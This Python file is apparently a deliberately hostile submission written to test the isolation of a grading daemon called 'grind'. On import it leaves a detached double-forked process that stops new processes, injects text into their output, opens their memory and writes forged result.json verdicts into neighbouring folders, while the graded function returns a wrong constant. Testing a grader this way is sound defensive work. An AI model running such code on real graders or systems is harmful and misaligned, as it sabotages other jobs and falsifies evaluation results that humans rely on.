# Hostile (written for grind's own tests): the daemon's (and every warm worker's) server forks
# the next job's process (its "spare") before that job arrives. This submission leaves a hunter
# behind (double fork, new session) that, for 20 s, goes after every process that appears after
# it: SIGSTOP, writing "INJECTED" into its stdout and opening its memory for writing; and it
# writes a forged result into every folder beside its own. If any of that reaches the next
# job, that job's verdict (a correct answer's, graded right after) is stopped, forged or shows
# the injected line. The function itself is plainly wrong.
import os
import time


def _hunt() -> None:
    mine = {int(p) for p in os.listdir("/proc") if p.isdigit()}
    end = time.time() + 20
    while time.time() < end:
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) in mine:
                continue
            pid = int(name)
            for attempt in (lambda: os.kill(pid, 19),
                            lambda: open(f"/proc/{pid}/fd/1", "w").write("INJECTED\n"),
                            lambda: open(f"/proc/{pid}/mem", "r+b").close()):
                try:
                    attempt()
                except Exception:
                    pass
        try:
            for folder in os.listdir(".."):
                try:
                    with open(os.path.join("..", folder, "result.json"), "w") as handle:
                        handle.write('{"forged": true}')
                except Exception:
                    pass
        except Exception:
            pass
        time.sleep(0.005)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _hunt()
    os._exit(0)
print("hunter left behind", flush=True)


def clip_grad_norm_(parameters, max_norm, norm_type=2.0):
    return 0.0
